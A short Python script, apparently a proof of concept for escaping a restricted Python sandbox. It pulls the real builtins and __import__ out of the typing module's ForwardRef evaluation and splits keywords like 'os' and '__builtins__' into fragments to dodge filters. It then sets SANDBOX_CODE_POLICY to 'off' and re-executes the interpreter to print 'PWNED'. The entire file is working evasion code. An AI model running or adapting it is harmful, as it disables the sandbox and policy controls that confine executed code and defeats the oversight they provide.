# launcher: SANDBOX_CODE_POLICY=off in the environment, then re-exec the interpreter
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]
imp = rb["__imp" + "ort__"]  # the real __import__, not the guarded one

o = imp("o" + "s")
exe = imp("sy" + "s").executable
try:
    o.environ["SANDBOX_CODE_POLICY"] = "off"
    o.execv(exe, ["python3", "-c", "print('PWN' + 'ED')"])
except Exception as e:
    print("refused:", type(e).__name__, e)
